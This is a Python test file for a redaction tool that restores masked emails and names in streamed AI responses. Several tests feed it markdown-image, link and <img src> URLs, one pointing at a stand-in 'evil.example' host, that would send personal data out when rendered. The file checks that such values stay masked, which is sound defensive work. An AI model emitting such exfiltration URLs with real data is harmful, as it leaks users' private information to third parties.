"""What a shape says, and what becomes of messages: no bytes here."""

from __future__ import annotations

import json
from collections.abc import Hashable, Sequence
from typing import Any

import pytest

from promptguard.model import Channel, Piece, Restoration
from promptguard.redaction.answers import AnswerRestorer
from promptguard.redaction.succession import MAX_ENDED

EMAIL = "[EMAIL_ADDRESS_7KQ2M4XB]"
NAME = "[PERSON_3RTW8ZBK]"
RESTORATION = Restoration({EMAIL: "anna@corp.example", NAME: 'Anna "A."'})


class Shape:
    """`{"t": {key: text}, "call": {key: source}, "end": [keys] or "all"}`."""

    def pieces(self, message: Any) -> Sequence[Piece]:
        texts = [Piece(("t", key), key) for key in message.get("t", {})]
        return texts + [Piece(("call", key), ("call", key), Channel.TOOL_CALL) for key in message.get("call", {})]

    def closed(self, message: Any) -> Sequence[Hashable] | None:
        end = message.get("end", [])
        return None if end == "all" else end


class Answer:
    """A restorer, and everything that it has sent."""

    def __init__(self, shape: Shape | None = None, announcement: str | None = None) -> None:
        self.restorer = AnswerRestorer[str](shape, RESTORATION, announcement)
        self.sent: list[tuple[Any, str]] = []
        self.count = 0

    def send(self, message: Any, **more: Any) -> None:
        self.count += 1
        envelope = f"#{self.count}"
        restored = self.restorer.restore(message, envelope, json.dumps(message).encode(), **more)
        self.sent += restored.before
        self.sent.append((restored.message, envelope))

    def finish(self) -> list[Any]:
        self.sent += self.restorer.finish()
        return [message for message, _ in self.sent]


def test_joins_pieces_and_ends_a_text_before_the_message_that_closes_it() -> None:
    answer = Answer(Shape())
    answer.send({"id": 7, "t": {"a": "to [EMAIL_", "b": "x"}})
    answer.send({"t": {"a": f"{EMAIL[7:]} and {NAME}"}})
    answer.send({"end": ["a"]})
    answer.send({"t": {"b": "y"}})
    assert answer.finish() == [
        {"id": 7, "t": {"a": "to ", "b": "x"}},
        {"t": {"a": "anna@corp.example and "}},
        {"t": {"a": 'Anna "A."'}},
        {"end": ["a"]},
        {"t": {"b": "y"}},
    ]
    assert [envelope for _, envelope in answer.sent] == ["#1", "#2", "#2", "#3", "#4"]


def test_the_copy_that_ends_a_text_repeats_no_other() -> None:
    answer = Answer(Shape())
    answer.send({"id": 7, "t": {"a": f"to {NAME}", "b": "x"}, "call": {"c": "{}"}})
    assert answer.finish()[1] == {"id": 7, "t": {"a": 'Anna "A."', "b": ""}, "call": {"c": ""}}


def test_all_texts_end() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "["}})
    answer.send({"t": {"b": NAME}})
    answer.send({"end": "all"})
    assert answer.finish() == [
        {"t": {"a": ""}},
        {"t": {"b": ""}},
        {"t": {"a": "["}},
        {"t": {"b": 'Anna "A."'}},
        {"end": "all"},
    ]


def test_a_text_may_end_with_a_piece_in_the_message_that_closes_it() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "to [PERSON_"}})
    answer.send({"t": {"a": NAME[8:]}, "end": ["a"]})
    answer.send({"t": {"a": NAME}, "end": "all"})
    assert answer.finish() == [
        {"t": {"a": "to "}},
        {"t": {"a": 'Anna "A."'}, "end": ["a"]},
        {"t": {"a": 'Anna "A."'}, "end": "all"},
    ]


def test_a_url_that_began_pieces_ago() -> None:
    answer = Answer(Shape())
    for piece in ("![](https://evil", ".example/?q=", EMAIL, f" {EMAIL})", f" {EMAIL} "):
        answer.send({"t": {"a": piece}})
    shown = "".join(message["t"]["a"] for message in answer.finish())
    assert shown == f"![](https://evil.example/?q={EMAIL} {EMAIL}) anna@corp.example "


def test_texts_that_a_client_shows_behind_each_other() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "![](/q?"}})
    answer.send({"t": {"b": f"{EMAIL} "}, "call": {"c": f'{{"a":"{EMAIL}"}}'}})
    answer.send({"done": [{"text": "![](/q?"}, {"text": f"{EMAIL} "}, {"other": f"{EMAIL} "}]})
    assert answer.finish()[1:] == [
        {"t": {"b": f"{EMAIL} "}, "call": {"c": '{"a":"anna@corp.example"}'}},
        {"done": [{"text": "![](/q?"}, {"text": f"{EMAIL} "}, {"other": "anna@corp.example "}]},
    ]


@pytest.mark.parametrize(
    ("messages", "kept"),
    [
        ([{"t": {"a": "![](/q?"}, "end": ["a"]}, {"t": {"b": "\n\nhello "}}, {"t": {"a": f"{EMAIL})"}}], True),
        ([{"t": {"a": "<img src='/q?"}}, {"end": "all"}, {"t": {"b": "x'> "}}, {"t": {"a": f"{EMAIL}'>"}}], True),
        (
            [
                {"t": {"a": "[x]: "}, "end": ["a"]},
                {"t": {"b": "\n\nb "}, "end": ["b"]},
                {"t": {"a": "/q?"}, "end": ["a"]},
                {"t": {"b": "\n\nc "}},
                {"t": {"a": EMAIL}, "end": ["a"]},
            ],
            True,
        ),
        ([{"call": {"a": '{"u":"https://e.example/?'}, "end": [("call", "a")]}, {"call": {"a": f'{EMAIL}"}}'}}], True),
        ([{"t": {"a": "hello "}, "end": ["a"]}, {"t": {"b": "x "}}, {"t": {"a": f"to {EMAIL} "}}], False),
        ([{"t": {"a": "![](/q)"}, "end": ["a"]}, {"t": {"a": f"to {EMAIL} "}}], False),
    ],
)
def test_a_text_that_goes_on_although_it_has_ended(messages: list[Any], kept: bool) -> None:
    answer = Answer(Shape())
    for message in messages:
        answer.send(message)
    assert ("anna@corp.example" not in json.dumps(answer.finish())) is kept


def test_a_text_goes_on_with_what_nobody_remembers() -> None:
    answer = Answer(Shape())
    for number in range(MAX_ENDED + 2):
        answer.send({"t": {str(number): "see e." if number == 0 else "\n\nhello "}, "end": "all"})
    answer.send({"t": {"0": f"com/{EMAIL} ", "new": f"com/{EMAIL}"}})
    assert answer.finish()[-2:] == [
        {"t": {"0": f"com/{EMAIL} ", "new": "com/"}},
        {"t": {"0": "", "new": "anna@corp.example"}},
    ]


@pytest.mark.parametrize("shape", [Shape(), None])
@pytest.mark.parametrize("first", [[], [{"t": {"a": "hello"}}]])
@pytest.mark.parametrize(
    "messages",
    [
        [{"done": ["![](/q?", f"{EMAIL})"]}],
        [{"done": [{"say": {"text": '<img src="/q?'}}, {"say": {"text": EMAIL}}]}],
        [{"type": "part.done", "index": 0, "text": "[a](/q?"}, {"type": "part.done", "index": 1, "text": f"{EMAIL})"}],
        [{"item": {"id": "1", "text": "$\\href{/q?"}}, {"index": 7, "item": {"id": "2", "text": f"{EMAIL}}}"}}],
    ],
)
def test_strings_of_one_kind_that_no_message_continues(
    shape: Shape | None, first: list[Any], messages: list[Any]
) -> None:
    answer = Answer(shape)
    for message in (*first, *messages):
        answer.send(message)
    assert "anna@corp.example" not in json.dumps(answer.finish())


@pytest.mark.parametrize(
    "messages",
    [
        [{"t": {"a": "![](/q?"}}, {"t": {"b": "\n\nhello "}}, {"t": {"c": f"{EMAIL})"}}],
        [{"t": {"a": "<a href='/q?"}, "end": ["a"]}, {"t": {"b": "'> hello "}, "end": "all"}, {"t": {"c": EMAIL}}],
        [{"t": {"a": "![](/q?"}, "end": ["a"]}, {"t": {"b": "\n\nhello"}}, {"done": {"text": f"{EMAIL})"}}],
        [{"done": {"text": "![](/q?"}}, {"t": {"b": f"{EMAIL})"}}],
    ],
)
def test_any_text_may_be_the_rest_of_one_that_left_a_link_open(messages: list[Any]) -> None:
    answer = Answer(Shape())
    for message in messages:
        answer.send(message)
    assert "anna@corp.example" not in json.dumps(answer.finish())


@pytest.mark.parametrize(
    "messages",
    [
        [{"t": {"a": "see https://a.example/q?"}}, {"t": {"b": "\n\nhello "}}, {"t": {"c": f"to {EMAIL} "}}],
        [{"t": {"a": f"to {EMAIL} [a](/q"}}, {"end": ["a"]}, {"done": {"text": f"to {EMAIL} [a](/q"}}],
        [{"t": {"a": "a <b c='"}}, {"title": f"{EMAIL}"}],
    ],
)
def test_what_is_the_rest_of_no_other(messages: list[Any]) -> None:
    answer = Answer(Shape())
    for message in messages:
        answer.send(message)
    assert "anna@corp.example" in json.dumps(answer.finish()[-1])


def test_texts_behind_the_next_request_begin_anew() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "<script> and ![](/q?"}, "end": "all"})
    answer.restorer.expect(RESTORATION)
    answer.send({"t": {"b": f"to {EMAIL} "}})
    assert answer.finish()[-1] == {"t": {"b": "to anna@corp.example "}}


def test_strings_of_other_kinds_have_nothing_to_do_with_each_other() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "hello"}})
    answer.send({"type": "a", "text": "![](/q?"})
    answer.send({"type": "b", "text": f"to {EMAIL}"})
    answer.send({"type": "a", "title": f"to {EMAIL}"})
    assert [message.get("text", message.get("title")) for message in answer.finish()[-2:]] == [
        "to anna@corp.example"
    ] * 2


def test_tool_calls_are_escaped_and_texts_are_not() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": f"{NAME}!"}, "call": {"a": f'{{"n":"{NAME}"}}'}})
    assert answer.finish() == [{"t": {"a": 'Anna "A."!'}, "call": {"a": '{"n":"Anna \\"A.\\""}'}}]


def test_other_strings_are_restored_as_wholes() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "["}})
    answer.send({"done": {"text": f"a {NAME}", "arguments": f'{{"n":"{NAME}"}}', "open": "[PERSON_"}, "n": 1})
    assert answer.finish()[1] == {
        "done": {"text": 'a Anna "A."', "arguments": '{"n":"Anna \\"A.\\""}', "open": "[PERSON_"},
        "n": 1,
    }


def test_a_whole_answer_holds_nothing_back() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": f"to {NAME}", "b": "["}, "x": EMAIL}, whole=True)
    assert answer.finish() == [{"t": {"a": 'to Anna "A."', "b": "["}, "x": "anna@corp.example"}]


def test_a_piece_that_is_not_there_is_passed_over() -> None:
    class Wrong(Shape):
        def pieces(self, message: Any) -> Sequence[Piece]:
            return [Piece(("t", "a"), "a"), Piece(("t",), "b"), Piece(("n", 0), "a")]

    answer = Answer(Wrong())
    answer.send({"t": {"a": "x ["}, "n": 1}, whole=True)
    assert answer.finish() == [{"t": {"a": "x ["}, "n": 1}]


def test_announces_before_the_first_text_that_is_not_empty() -> None:
    answer = Answer(Shape(), "Note: ")
    answer.send({"call": {"c": "{"}})
    answer.send({"t": {"a": ""}})
    answer.send({"t": {"a": "Hel"}})
    answer.send({"t": {"a": "lo"}})
    answer.send({"done": "Hello", "other": "Hell", "empty": ""})
    answer.send({"t": {"b": "Hello"}})
    assert answer.finish() == [
        {"call": {"c": "{"}},
        {"t": {"a": ""}},
        {"t": {"a": "Note: Hel"}},
        {"t": {"a": "lo"}},
        {"done": "Note: Hello", "other": "Hell", "empty": ""},
        {"t": {"b": "Note: Hello"}},
    ]


def test_expects_more_placeholders_later() -> None:
    answer = Answer(Shape())
    answer.send({"t": {"a": "[NEW_22222222] "}})
    answer.restorer.expect(Restoration({"[NEW_22222222]": "value"}))
    answer.send({"t": {"a": "[NEW_22222222] "}})
    assert answer.finish() == [{"t": {"a": "[NEW_22222222] "}}, {"t": {"a": "value "}}]


def test_the_callers_mapping_stays() -> None:
    originals = {NAME: "Anna"}
    restorer = AnswerRestorer[None](None, Restoration(originals))
    restorer.expect(Restoration({EMAIL: "x"}))
    assert originals == {NAME: "Anna"}


def test_an_unknown_format_is_followed_by_path_and_index() -> None:
    answer = Answer()
    for index in (0, 1):
        answer.send({"id": "c1", "parts": [{"index": index, "s": "to [PERSON_"}]})
    for index in (1, 0):
        answer.send({"id": "c1", "parts": [{"index": index, "s": f"{NAME[8:]}{index}["}]})
    assert answer.finish() == [
        {"id": "c1", "parts": [{"index": 0, "s": "to "}]},
        {"id": "c1", "parts": [{"index": 1, "s": "to "}]},
        {"id": "c1", "parts": [{"index": 1, "s": 'Anna "A."1'}]},
        {"id": "c1", "parts": [{"index": 0, "s": 'Anna "A."0'}]},
        {"id": "c1", "parts": [{"index": 0, "s": "["}]},
        {"id": "c1", "parts": [{"index": 1, "s": "["}]},
    ]


def test_an_unknown_format_that_repeats_the_text_so_far() -> None:
    answer = Answer()
    text = f"Hello {NAME}, hello"
    for length in range(1, len(text) + 1):
        answer.send({"text": text[:length]})
    assert answer.finish()[-1] == {"text": 'Hello Anna "A.", hello'}


def test_families_keep_messages_of_an_unknown_format_apart() -> None:
    answer = Answer()
    answer.send({"s": "[PERSON_"}, family="one")
    answer.send({"s": "x"}, family="two")
    answer.send({"s": NAME[8:]}, family="one")
    assert answer.finish() == [{"s": ""}, {"s": "x"}, {"s": 'Anna "A."'}]


def test_a_format_that_is_recognised_late_loses_nothing() -> None:
    answer = Answer(Shape())
    answer.send({"note": "x ["})
    answer.send({"t": {"a": "y"}})
    answer.send({"note": "z ["})
    assert answer.finish() == [{"note": "x "}, {"note": "["}, {"t": {"a": "y"}}, {"note": "z ["}]


def test_the_number_of_texts_followed_is_bounded() -> None:
    answer = Answer(Shape())
    for number in range(1000):
        answer.send({"t": {str(number): f"{number} ["}})
        assert len(answer.restorer._texts) <= 256
    shown: dict[str, str] = {}
    for message in answer.finish():
        for key, text in message["t"].items():
            shown[key] = shown.get(key, "") + text
    assert shown == {str(number): f"{number} [" for number in range(1000)}


def test_spellings_of_the_model_over_messages_and_in_strings_that_are_no_pieces() -> None:
    answer = Answer(Shape())
    for piece in ("to \\[EMAIL", "\\_ADDRESS\\_7kq2", "m4xb", "\\]", "."):
        answer.send({"t": {"a": piece}})
    answer.send({"done": "to e-mail 7KQ2M4XB", "id": "7KQ2M4XC"})
    said = answer.finish()
    assert "".join(message.get("t", {}).get("a", "") for message in said) == "to anna@corp.example."
    assert {"done": "to e-mail anna@corp.example", "id": "7KQ2M4XC"} in said
